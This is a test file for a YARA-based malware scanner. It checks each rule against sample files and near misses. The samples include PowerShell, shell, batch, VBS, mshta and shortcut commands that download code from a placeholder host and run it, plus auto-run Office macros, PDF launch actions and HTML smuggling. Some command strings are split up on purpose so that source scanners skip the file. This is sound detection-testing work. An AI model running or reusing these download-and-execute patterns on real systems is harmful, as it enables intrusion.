import { beforeAll, describe, expect, it } from 'vitest';
import { readRuleSet } from '../../../server/engines/rule-set.ts';
import { createYaraEngine, type YaraEngine } from '../../../server/engines/yara-engine.ts';
import { makeEicar } from '../../../server/samples/make-eicar.ts';
import { makePdf } from '../../../server/samples/make-pdf.ts';
import { DOCUMENT_LINK_NEAR_MISSES, DOCUMENT_LINK_SAMPLES } from './document-link-samples.ts';
import { MACRO_NEAR_MISSES, MACRO_SAMPLES } from './macro-samples.ts';
import type { RuleSample } from './rule-sample.ts';

let engine: YaraEngine;
beforeAll(() => {
  engine = createYaraEngine(readRuleSet([]));
});

const match = (content: string | Buffer, name: string): string[] =>
  engine
    .scan(typeof content === 'string' ? Buffer.from(content) : content, name, null)
    .map(({ rule }) => rule);

/** The least that is a PE file to a rule: the two marks, and where the second stands. */
function makePe(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80);
  return bytes;
}
const makeElf = (): Buffer => Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(200)]);
const makeMachO = (): Buffer => Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(200)]);
const makeLnk = (text: string): Buffer =>
  Buffer.concat([
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    Buffer.alloc(60),
    Buffer.from(text, 'utf16le'),
  ]);
const makeOle = (source: string): Buffer =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(600),
    Buffer.from('_VBA_PROJECT', 'utf16le'),
    Buffer.from(`\0${source}\0`),
  ]);
const base64 = 'TVqQAAMAAAAEAAAA'.repeat(400);
const smuggle = (data: string, store: string): string =>
  `<html><script>const bytes = Uint8Array.from(atob("${data}"), c => c.charCodeAt(0)); const b = new Blob([bytes]);
   const a = document.createElement('a'); a.href = URL.createObjectURL(b); ${store}; a.click();</script></html>`;
// Commands are put together here so that scanners of source code leave this file alone.
const webClient = ['(New-Object Net.Web', 'Client).Down', "loadString('https://x.example/a.ps1')"].join('');
const iex = ['I', 'EX'].join('');

const POSITIVE: RuleSample[] = [
  ['EICAR_Test_File', 'a.txt', makeEicar],
  ['EICAR_Test_File', 'a.txt', () => Buffer.concat([makeEicar(), Buffer.from('\r\n')])],
  ['Executable_Named_As_Document', 'invoice.pdf', makePe],
  ['Executable_Named_As_Document', 'C:\\temp\\picture.JPG', makeElf],
  ['Executable_Named_As_Document', 'sheet.xlsx ', makeMachO],
  ['Executable_With_Double_Ending', 'invoice.pdf.exe', makePe],
  ['Executable_With_Double_Ending', 'invoice.docx      .scr', makePe],
  ['Script_Named_As_Document', 'invoice.pdf', () => '#!/bin/sh\nrm -r x\n'],
  ['Script_Named_As_Document', 'invoice.docx', () => 'Set s = CreateObject("WScript.Shell")'],
  ['Script_With_Double_Ending', 'invoice.pdf.js', () => 'var a = 1;'],
  ['Name_With_Reversed_Text', 'invoice\u202efdp.exe', () => 'x'],
  [
    'PowerShell_Downloads_And_Runs',
    'a.bat',
    () => `powershell -w hidden -ep bypass -c "${iex} ${webClient}"`,
  ],
  ['PowerShell_Runs_Download', 'a.ps1', () => `${iex} ${webClient}`],
  ['PowerShell_Runs_Download', 'a.ps1', () => `iwr -useb https://x.example/a.ps1 | ${iex}`],
  [
    'WSH_Downloads_And_Runs',
    'a.vbs',
    () =>
      'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://x.example/a.exe"\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile "a.exe"\nCreateObject("WScript.Shell").Run "a.exe"',
  ],
  [
    'WSH_Downloads_And_Runs',
    'a.js',
    () =>
      'var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); var s = new ActiveXObject("ADODB.Stream"); s.SaveToFile("a"); new ActiveXObject("Shell.Application").ShellExecute("a");',
  ],
  [
    'Shell_Script_Pipes_Download',
    'a.sh',
    () => '#!/bin/bash\nset -e\ncurl -fsSL https://x.example/i | bash\n',
  ],
  ['Shell_Script_Pipes_Download', 'a', () => '#!/bin/sh\neval "$(wget -qO- http://x.example/i)"\n'],
  [
    'Shell_Script_Drops_And_Runs',
    'a.sh',
    () => '#!/bin/sh\ncurl http://x.example/m -o /tmp/m\nchmod +x /tmp/m\n/tmp/m &\n',
  ],
  [
    'Batch_Downloads_And_Runs',
    'a.bat',
    () =>
      '@echo off\r\ncertutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n',
  ],
  [
    'Batch_Downloads_And_Runs',
    'a.cmd',
    () => 'bitsadmin /transfer j http://x.example/a.exe %temp%\\a.exe\r\n%temp%\\a.exe\r\n',
  ],
  ['Mshta_Runs_Remote_Code', 'a.bat', () => 'mshta http://x.example/a.hta'],
  [
    'Office_Macro_Starts_Program',
    'a.doc',
    () => makeOle('Sub AutoOpen() CreateObject("WScript.Shell").Run "x"'),
  ],
  ['Office_Macro_Starts_Program', 'a.xls', () => makeOle('Sub Workbook_Open() URLDownloadToFile 0')],
  ['Office_Macro_Starts_Itself', 'a.doc', () => makeOle('Sub Document_Open() Selection.Font.Bold = True')],
  ['PDF_Launches_Program', 'a.pdf', () => '%PDF-1.4\n<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'],
  [
    'PDF_Runs_Script_When_Opened',
    'a.pdf',
    () => '%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
  ],
  [
    'PDF_Runs_Script_When_Opened',
    'a.pdf',
    () => '%PDF-1.4\n<< /Type /Page /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> >>',
  ],
  ['Shortcut_Calls_Shell', 'a.lnk', () => makeLnk('C:\\Windows\\System32\\cmd.exe /c dir')],
  [
    'Shortcut_Calls_Shell_With_Payload',
    'a.lnk',
    () => makeLnk('C:\\Windows\\System32\\mshta.exe http://x.example/a.hta'),
  ],
  ...MACRO_SAMPLES,
  ...DOCUMENT_LINK_SAMPLES,
  ['HTML_Smuggles_File', 'a.html', () => smuggle(base64, 'a.download = "x.zip"')],
  ['HTML_Smuggles_File', 'a.html', () => smuggle(base64, 'navigator.msSaveOrOpenBlob(b, "x.zip")')],
];

const NEAR_MISS: RuleSample[] = [
  ['the test string later in a text', 'a.txt', () => `See: ${makeEicar().toString()}`],
  ['the test string in a long file', 'a.txt', () => Buffer.concat([makeEicar(), Buffer.alloc(100, 32)])],
  ['a program under its own ending', 'setup.exe', makePe],
  ['a program without an ending', 'ls', makeElf],
  ['a text that begins like a program', 'MZ.txt', () => 'MZ is what a program begins with.'],
  ['a script under its own ending', 'build.sh', () => '#!/bin/sh\nmake\n'],
  ['dots in a name', 'report.v1.2.pdf', () => makePdf('x')],
  ['a script that talks of documents', 'pdf.js', () => 'export const a = 1;'],
  [
    'PowerShell that only downloads',
    'a.ps1',
    () => 'Invoke-WebRequest https://x.example/a.zip -OutFile a.zip',
  ],
  ['PowerShell that only runs', 'a.ps1', () => 'powershell -ExecutionPolicy Bypass -File build.ps1'],
  ['a page that explains a command', 'install.md', () => `Run this:\n\n    ${iex} ${webClient}\n`],
  [
    'WSH that downloads but runs nothing',
    'a.vbs',
    () => 'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://x"',
  ],
  [
    'a shell script that stores a download',
    'a.sh',
    () => '#!/bin/sh\ncurl -o a.tgz https://x.example/a.tgz\ntar xf a.tgz\n',
  ],
  [
    'a shell script that names the trick in a comment',
    'a.sh',
    () => '#!/bin/sh\n# curl https://x.example/i | sh\necho ok\n',
  ],
  [
    'a shell script that pipes a download elsewhere',
    'a.sh',
    () => '#!/bin/sh\ncurl https://x.example/a | tar xz\n',
  ],
  ['certutil that hashes', 'a.bat', () => '@echo off\r\ncertutil -hashfile a.exe SHA256\r\nstart a.exe\r\n'],
  ['mshta with a local page', 'a.bat', () => 'mshta C:\\app\\about.hta'],
  [
    'a macro that does not start itself',
    'a.doc',
    () => makeOle('Sub Format() CreateObject("WScript.Shell")'),
  ],
  [
    'an Office file without macros',
    'a.doc',
    () => Buffer.from(makeOle('Document_Open').toString('latin1').replace('_\0V', '_\0W'), 'latin1'),
  ],
  ['a PDF with a link to a script', 'a.pdf', () => '%PDF-1.4\n<< /S /JavaScript /JS (this.print()) >>'],
  [
    'a PDF form that checks what is typed',
    'a.pdf',
    () => '%PDF-1.4\n<< /FT /Tx /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke(2)) >> >> >>',
  ],
  ['a PDF that opens on a page', 'a.pdf', () => '%PDF-1.4\n<< /OpenAction [3 0 R /Fit] >>'],
  ['a PDF that launches a document', 'a.pdf', () => '%PDF-1.4\n<< /S /Launch /F (chapter2.pdf) >>'],
  ...MACRO_NEAR_MISSES,
  ...DOCUMENT_LINK_NEAR_MISSES,
  ['a shortcut to a program', 'a.lnk', () => makeLnk('C:\\Program Files\\App\\app.exe --open')],
  ['a page that stores a small text', 'a.html', () => smuggle('aGVsbG8=', 'a.download = "x.txt"')],
  [
    'a page with an embedded picture',
    'a.html',
    () => `<html><img src="data:image/png;base64,${base64}"></html>`,
  ],
];

describe('each rule', () => {
  it.each(POSITIVE)('%s finds its sample %s', (rule, name, content) => {
    expect(match(content(), name)).toContain(rule);
  });

  it.each(NEAR_MISS)('stays silent on %s', (_what, name, content) => {
    expect(match(content(), name)).toEqual([]);
  });

  it('has a sample, a description, a severity, a category and a reference', () => {
    const findings = POSITIVE.flatMap(([, name, content]) => engine.scan(Buffer.from(content()), name, null));
    for (const finding of findings) {
      expect(finding.description).toMatch(/\.$/);
      expect(finding.reference).toMatch(/^https:\/\//);
      expect(finding.category).not.toBe('rule');
    }
  });
});
